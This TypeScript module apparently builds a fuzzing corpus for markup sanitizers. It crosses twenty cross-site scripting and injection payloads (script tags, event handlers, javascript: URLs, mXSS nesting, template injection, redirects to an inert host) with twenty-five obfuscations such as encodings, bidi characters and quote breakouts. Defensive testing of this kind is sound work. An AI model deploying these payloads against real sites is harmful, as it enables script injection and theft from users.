/** Texts that would run, ask somebody else or break out of their place if anything took them for markup: 20 deeds in 25 disguises. */

const mark = 'globalThis.harm=1'
const elsewhere = '//elsewhere.invalid/x'

const deeds: readonly string[] = [
  `<script>${mark}</script>`,
  `<img src=x onerror="${mark}">`,
  `<svg onload="${mark}">`,
  `<svg><script href="data:,${mark}"/></svg>`,
  `<iframe srcdoc="<script>parent.${mark}</script>"></iframe>`,
  `<a href="javascript:${mark}" autofocus onfocus="${mark}">x</a>`,
  `<details open ontoggle="${mark}">`,
  `<video><source onerror="${mark}"></video>`,
  `<input autofocus onfocus="${mark}">`,
  `<style>@import url(${elsewhere});*{background:url(${elsewhere})}</style>`,
  `<link rel="stylesheet" href="${elsewhere}">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  `<base href="${elsewhere}">`,
  `<object data="javascript:${mark}"></object>`,
  `<form action="${elsewhere}"><button autofocus>x</button></form>`,
  `<math><mtext><table><mglyph><style><img src onerror="${mark}">`,
  `<template><script>${mark}</script></template>`,
  `<img src="http:${elsewhere}">`,
  `javascript:${mark}`,
  `{{constructor.constructor('${mark}')()}}`,
]

const disguises: readonly ((text: string) => string)[] = [
  text => text,
  text => text.toUpperCase(),
  text => `"> ${text}`,
  text => `'/> ${text}`,
  text => `</textarea></title></script> ${text}`,
  text => `--> ]]> ${text}`,
  text => `" onmouseover="${mark}" x="${text}`,
  text => `\u202e${text}\u202c`,
  text => `\u2066${text}\u2069`,
  text => `\u200b${text}\ufeff`,
  text => text.replaceAll('<', '<\u0000'),
  text => text.replaceAll(' ', '\n'),
  text => text.replaceAll(' ', '\t'),
  text => text.replaceAll(' ', '/'),
  text => text.replaceAll(' ', '\u2028'),
  text => `\u001b]8;;javascript:${mark}\u0007${text}\u001b]8;;\u0007`,
  text => `\u001b[31m${text}`,
  text => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  text => text.replaceAll('<', '&#60;'),
  text => text.replaceAll('<', '\\u003c'),
  text => encodeURIComponent(text),
  text => text.replaceAll('<', '\uff1c'),
  text => `\`\${${text}}\``,
  text => `__proto__ constructor ${text}`,
  text => `${'a\u0301'.repeat(200)}${text}`,
]

export const hostileTexts: readonly string[] = disguises.flatMap(disguise => deeds.map(disguise))
